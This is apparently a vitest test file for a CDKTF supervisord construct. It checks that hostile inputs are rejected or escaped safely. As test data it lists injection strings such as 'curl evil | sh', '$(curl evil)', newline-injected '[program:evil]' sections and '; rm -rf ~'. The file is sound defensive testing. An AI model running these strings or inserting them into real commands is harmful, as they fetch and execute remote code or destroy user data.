import { spawnSync } from "node:child_process";
import { App, TerraformStack, Testing } from "cdktf";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { JawsService, type JawsServiceOptions, SupervisorInstance, type SupervisorInstanceProps } from "../../constructs";
import { renderInstance } from "../../constructs/render/render-instance";
import { cori } from "../../sites/cori";
import type { SiteDefinition } from "../../sites/site";
import { addSiteStacks } from "../../sites/stacks";
import { BASE_OPTIONS, parseRendered, prepareInstanceDir, pythonShlexSplit, realBaseDirectory } from "../support/fixtures";
import { requireSupervisordParser, SUPERVISOR_PYTHON } from "../support/supervisord-parser";

/**
 * The catalogue of hostile and malformed inputs (issue 4). Each one is either
 * rejected at synth with the construct path and the field, or rendered to
 * something supervisord and bash read exactly as meant.
 */
type Case =
  | {
      label: string;
      instance?: Partial<SupervisorInstanceProps>;
      service?: Partial<JawsServiceOptions> & { name?: string };
      reject: RegExp;
    }
  | { label: string; site: (s: SiteDefinition) => SiteDefinition; deployment?: string; reject: RegExp };

const svc = "[jaws-test/p]";
const inst = "[jaws-test/supervisor]";
const esc = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
const rej = (path: string, field: string) => new RegExp(`${esc(path)} ${esc(field)}: `);

const REJECTED: Case[] = [
  {
    label: "newline + [program:evil] in a command",
    service: { command: ["echo", "x\n[program:evil]\ncommand=/bin/evil"] },
    reject: rej(svc, "command[1]"),
  },
  { label: "newline in a command string", service: { command: "echo x\n[program:evil]" }, reject: rej(svc, "command") },
  { label: "NUL in a command", service: { command: ["echo", "a\u0000"] }, reject: rej(svc, "command[1]") },
  { label: "ESC control character", service: { command: ["echo", "\u001b[2J"] }, reject: rej(svc, "command[1]") },
  { label: "empty command", service: { command: "" }, reject: rej(svc, "command") },
  { label: "unterminated quote", service: { command: "sh -c 'echo" }, reject: rej(svc, "command") },
  { label: "program named a:b", service: { name: "a:b" }, reject: rej("[jaws-test/a:b]", "name") },
  { label: "program named with a space", service: { name: "a b" }, reject: rej("[jaws-test/a b]", "name") },
  { label: "program named ../etc", service: { name: "../etc" }, reject: /\] name: "\.\.\/etc" is not a program name/ },
  { label: "numprocs 0", service: { numprocs: 0 }, reject: rej(svc, "numprocs") },
  { label: "numprocs 2 without process_num", service: { numprocs: 2, processName: "p" }, reject: rej(svc, "processName") },
  { label: "exit code 256", service: { exitcodes: [256] }, reject: rej(svc, "exitcodes") },
  { label: "exit code -1", service: { exitcodes: [-1] }, reject: rej(svc, "exitcodes") },
  { label: "unknown signal", service: { stopsignal: "STOP" as never }, reject: rej(svc, "stopsignal") },
  { label: "stopasgroup without killasgroup", service: { killasgroup: false }, reject: rej(svc, "stopasgroup") },
  { label: "byte size 10TB", service: { stdoutLogfileMaxbytes: "10TB" as never }, reject: rej(svc, "stdoutLogfileMaxbytes") },
  { label: "relative log path", service: { stdoutLogfile: "logs/p.log" }, reject: rej(svc, "stdoutLogfile") },
  { label: "log path with a space", service: { stdoutLogfile: "/srv/my logs/p.log" }, reject: rej(svc, "stdoutLogfile") },
  { label: "log path with a quote", service: { stderrLogfile: "/srv/p'.log" }, reject: rej(svc, "stderrLogfile") },
  { label: "log path with ${", service: { stderrLogfile: "/srv/${HOME}.log" }, reject: rej(svc, "stderrLogfile") },
  { label: "directory with ;", service: { directory: "/srv/x;rm" }, reject: rej(svc, "directory") },
  {
    label: "environment= value with a quote",
    service: { useWrapper: false, environment: { A: 'x"y' } },
    reject: rej(svc, "environment.A"),
  },
  {
    label: "environment= value with a backslash",
    service: { useWrapper: false, environment: { A: "x\\y" } },
    reject: rej(svc, "environment.A"),
  },
  { label: "environment= value with ' ;'", service: { useWrapper: false, environment: { A: "x ; y" } }, reject: rej(svc, "environment.A") },
  { label: "wrapper environment with a newline", service: { environment: { A: "x\nexport B=1" } }, reject: rej(svc, "environment.A") },
  { label: "environment key with '='", service: { environment: { "A=B": "x" } }, reject: rej(svc, "environment.A=B") },
  { label: "environment key with $( )", service: { environment: { "$(id)": "x" } }, reject: rej(svc, "environment.$(id)") },
  { label: "venv with a space", service: { venv: "/srv/my venv" }, reject: rej(svc, "venv") },
  { label: "locale with ;", service: { locale: "C;id" }, reject: rej(svc, "locale") },
  { label: "instance name with a newline", instance: { name: "jaws\n[program:x]" }, reject: rej(inst, "name") },
  { label: "deployment with '/'", instance: { deployment: "dev/../prod" }, reject: rej(inst, "deployment") },
  { label: "host with ;", instance: { host: "cori20;id" }, reject: rej(inst, "host") },
  { label: "port out of range", instance: { port: 70000 }, reject: rej(inst, "port") },
  { label: "user with a space", instance: { user: "jaws jtm" }, reject: rej(inst, "user") },
  {
    label: "no host key",
    instance: { hostKey: undefined },
    reject: /hostKey: is required .*ssh-keyscan -p 22 -t ed25519 cori20\.nersc\.gov/,
  },
  {
    label: "private key pasted instead of a path",
    instance: { privateKeyFile: "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----" },
    reject: rej(inst, "privateKeyFile"),
  },
  { label: "base directory under /tmp", instance: { baseDirectory: "/tmp/jaws-supervisord" }, reject: rej(inst, "baseDirectory") },
  { label: "relative base directory", instance: { baseDirectory: "supervisor" }, reject: rej(inst, "baseDirectory") },
  { label: "base directory with a space", instance: { baseDirectory: "/srv/jaws supervisor" }, reject: rej(inst, "baseDirectory") },
  { label: "base directory with a quote", instance: { baseDirectory: '/srv/ja"ws' }, reject: rej(inst, "baseDirectory") },
  { label: "base directory with %", instance: { baseDirectory: "/srv/100%" }, reject: rej(inst, "baseDirectory") },
  { label: "python command with $()", instance: { pythonCommand: "$(curl evil)" }, reject: rej(inst, "pythonCommand") },
  {
    label: "preamble with a newline",
    instance: { shellPreamble: ["module load python\ncurl evil | sh"] },
    reject: rej(inst, "shellPreamble[0]"),
  },
  { label: "inet port 0", instance: { inetPort: 0 }, reject: rej(inst, "inetPort") },
  { label: "supervisord environment with a quote", instance: { environment: { A: "'" } }, reject: rej(inst, "environment.A") },
  { label: "loglevel 'warning'", instance: { loglevel: "warning" as never }, reject: rej(inst, "loglevel") },
  { label: "identifier with a newline", instance: { identifier: "a\n[x]" }, reject: rej(inst, "identifier") },
  { label: "umask 999", instance: { umask: "999" }, reject: rej(inst, "umask") },
  { label: "pip index with a quote", instance: { pipIndexUrl: "https://pypi'.org/simple" }, reject: rej(inst, "pipIndexUrl") },
  { label: "site host with a newline", site: (s) => ({ ...s, host: "cori20\nevil" }), reject: rej("[jaws-cori/supervisor]", "host") },
  {
    label: "site user with '$'",
    site: (s) => ({ ...s, instances: s.instances.map((i) => ({ ...i, user: "ja$ws" })) }),
    reject: rej("[jaws-cori/supervisor]", "user"),
  },
  {
    label: "site base directory relative",
    site: (s) => ({ ...s, instances: s.instances.map((i) => ({ ...i, baseDirectory: "jaws" })) }),
    reject: rej("[jaws-cori/supervisor]", "baseDirectory"),
  },
  {
    label: "site install dir with a space",
    site: (s) => ({ ...s, deployments: { dev: { ...s.deployments.dev, installDirectory: "/srv/ja ws" } } }),
    reject: rej("[jaws-cori/supervisor/jaws-site-conf]", "path"),
  },
  {
    label: "site preamble with a NUL",
    site: (s) => ({ ...s, shellPreamble: ["module load\u0000python"] }),
    reject: rej("[jaws-cori/supervisor]", "shellPreamble[0]"),
  },
  { label: "unknown deployment", site: (s) => s, deployment: "qa", reject: /unknown deployment "qa"/ },
];

function synthCase(c: Case): void {
  const app = Testing.app();
  if ("site" in c) {
    addSiteStacks(app, c.site(cori), { deployment: c.deployment ?? "dev" });
  } else {
    const stack = new TerraformStack(app, "jaws-test");
    const instance = new SupervisorInstance(stack, "supervisor", { ...BASE_OPTIONS, ...c.instance });
    const { name, ...service } = { command: ["sleep", "100"], ...c.service } as JawsServiceOptions & { name?: string };
    new JawsService(stack, name ?? "p", { instance, ...service });
  }
  app.synth();
}

describe("bad input: rejected at synth with construct path and field", () => {
  it.each(REJECTED.map((c) => [c.label, c] as const))("%s", (_label, c) => {
    expect(() => synthCase(c)).toThrow(c.reject);
  });

  it("an error never echoes the pasted key", () => {
    const c = REJECTED.find((x) => x.label.startsWith("private key pasted"))!;
    try {
      synthCase(c);
    } catch (e) {
      expect(String(e)).not.toContain("BEGIN OPENSSH");
      return;
    }
    throw new Error("not rejected");
  });
});

/** Inputs that are legal and must arrive exactly as meant. */
const EXACT_ARGS = [
  "; rm -rf ~",
  " ; rm -rf ~",
  "a # not a comment",
  "100%",
  "%d %s %(here)",
  "${HOME}",
  "%{ if x }",
  "$(id)",
  "`id`",
  "'single'",
  '"double"',
  "back\\slash",
  "ünïcödé ✓",
  "tab\tinside",
  "",
  "--flag=a,b",
];

describe("bad input: accepted values reach supervisord and bash exactly", () => {
  let base: { base: string; cleanup: () => void } | undefined;
  beforeAll(() => {
    requireSupervisordParser();
    base = realBaseDirectory();
  });
  afterAll(() => base?.cleanup());

  it("through supervisord's own command parsing (no wrapper)", () => {
    const { base: dir } = base!;
    const app = new App({ outdir: `${dir}/out` });
    const stack = new TerraformStack(app, "jaws-test");
    const instance = new SupervisorInstance(stack, "supervisor", { ...BASE_OPTIONS, baseDirectory: dir });
    new JawsService(stack, "p", { instance, command: ["/bin/echo", ...EXACT_ARGS], useWrapper: false, environment: { A: "1% a,b c=d" } });
    const m = instance.model();
    prepareInstanceDir(m);
    const parsed = parseRendered(m, instance.render().supervisordConf);
    expect(pythonShlexSplit(parsed.programs[0].command)).toEqual(["/bin/echo", ...EXACT_ARGS]);
    expect(parsed.programs[0].environment.A).toBe("1% a,b c=d");
    expect(parsed.programs.map((p) => p.name)).toEqual(["p"]);
  });

  it("through the wrapper script run by bash", () => {
    const m = new SupervisorInstance(new TerraformStack(new App(), "s"), "i", BASE_OPTIONS);
    new JawsService(m, "p", {
      instance: m,
      command: [SUPERVISOR_PYTHON, "-c", "import sys, os; print(repr(sys.argv[1:])); print(repr(os.environ['X']))", ...EXACT_ARGS],
      environment: { X: EXACT_ARGS.join("|") },
      locale: "C.UTF-8",
    });
    const wrapper = renderInstance(m.model()).files.find((f) => f.path === "bin/p.sh")!.content;
    // stdin not a socket: bash would otherwise read ~/.bashrc as if started by sshd.
    const r = spawnSync("bash", ["-c", wrapper], { encoding: "utf8", env: { PATH: "/usr/bin:/bin" }, stdio: ["ignore", "pipe", "pipe"] });
    expect(r.stderr).toBe("");
    const expected = spawnSync(
      SUPERVISOR_PYTHON,
      ["-c", "import sys, json; a = json.loads(sys.argv[1]); print(repr(a)); print(repr('|'.join(a)))", JSON.stringify(EXACT_ARGS)],
      { encoding: "utf8" },
    ).stdout;
    expect(r.stdout).toBe(expected);
  });
});
